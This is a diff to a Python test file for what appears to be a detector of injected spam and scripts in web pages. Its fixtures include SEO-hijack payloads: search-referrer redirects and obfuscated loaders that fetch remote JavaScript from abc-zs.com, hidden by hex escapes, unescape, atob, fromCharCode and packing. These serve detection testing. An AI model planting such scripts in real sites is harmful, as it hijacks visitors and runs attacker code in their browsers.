@@ -152,6 +152,7 @@ def test_links_that_are_no_hidden_links(body: str) -> None:
         f'<div class="zz" style="display:none">{SPAM}</div>',
         f'<div class="zhuti"><div>甲</div><div style="display:none">{SPAM}</div></div>',
         f'<table><tr style="display:none"><td>{SPAM}</td></tr></table>',
+        f'<div class="foot"><div class="bq">版权</div><div style="display:none">{SPAM}</div></div>',
     ],
 )
 def test_what_a_script_may_show_is_left_open(body: str) -> None:
@@ -179,7 +180,9 @@ PACKED = (
         ('<script>var regexp=/\\.(sogou|soso|baidu|google)(\\.[a-z0-9\\-]+){1,2}\\//ig;var where=document.referrer;if(regexp.test(where)){window.location.href="http://www.abc-zs.com/1.html"}</script>', ["redirect"]),
         ('<script>if(document.referrer.indexOf("baidu.com")>0){document.write(\'<script src="http://www.abc-zs.com/t.js"><\\/script>\')}</script>', ["redirect"]),
         ('<script>var s=["\\x72\\x65\\x66\\x65\\x72\\x72\\x65\\x72","\\x68\\x74\\x74\\x70\\x3A\\x2F\\x2F\\x77\\x77\\x77\\x2E\\x61\\x62\\x63\\x2D\\x7A\\x73\\x2E\\x63\\x6F\\x6D\\x2F"];var r=/\\.(sogou|baidu)\\./i;if(r.test(document[s[0]])){window["location"]["href"]=s[1]}</script>', ["redirect"]),
-        ('<script>document.write(unescape("%3Cscript src=\'http://www.abc-zs.com/x.js\'%3E%3C/script%3E"));</script>', ["veil"]),
+        ('<script>document.write(unescape("%3Cscript src=\'http://www.abc-zs.com/x.js\'%3E%3C/script%3E"));</script>', ["script?"]),
+        ('<script>document.write(unescape("%3Cscript src=\'%68%74%74%70://%77.abc%2d%7as.com/x.js\'%3E%3C/script%3E"));</script>', ["veil"]),
+        ('<script>var s=document.createElement("script");s.async=true;s.src="//www.abc-zs.com/x.js";document.body.appendChild(s)</script>', ["script?"]),
         ('<script>eval(String.fromCharCode(108,111,99,97,116,105,111,110,46,104,114,101,102,61,34,104,116,116,112,58,47,47,119,46,97,98,99,45,122,115,46,99,111,109,34))</script>', ["veil"]),
         ("<script>eval(atob('ZG9jdW1lbnQud3JpdGUoIjxzY3JpcHQgc3JjPSdodHRwOi8vdy5hYmMtenMuY29tL2EuanMnPjwvc2NyaXB0PiIp'))</script>", ["veil"]),
         ("<script>" + PACKED % ("2.3(\\'<4 5=0://1.abc-zs.6/></4>\\')", 10, 7, "http|w|document|write|script|src|com") + "</script>", ["veil"]),
@@ -202,6 +205,7 @@ def test_code_that_strangers_put_there(body: str, said: list[str]) -> None:
         '<iframe src="https://v.qq.com/txp/iframe/player.html?vid=1" width="640"></iframe><iframe src="http://i.tianqi.com/index.php?c=code" height="20"></iframe>',
         '<iframe src="/inc/login.html" width="0" height="0"></iframe><iframe src="http://sso.qingping.gov.cn/" style="display:none"></iframe>',
         '<meta http-equiv="refresh" content="0;url=http://www.gov.cn/">',
+        '<script>var i=new Image();i.src="http://www.abc-zs.com/1.gif";document.createElement("div")</script>',
         '<script>if(document.referrer==""){location.href="http://www.qingping.gov.cn/"}</script>',
         '<script>var k=/baidu|sogou/.exec(document.referrer);if(k){highlight(k)}</script>',
         '<script>if(/Android|iPhone/.test(navigator.userAgent)){location.href="http://m.qingping.gov.cn/"}</script>',
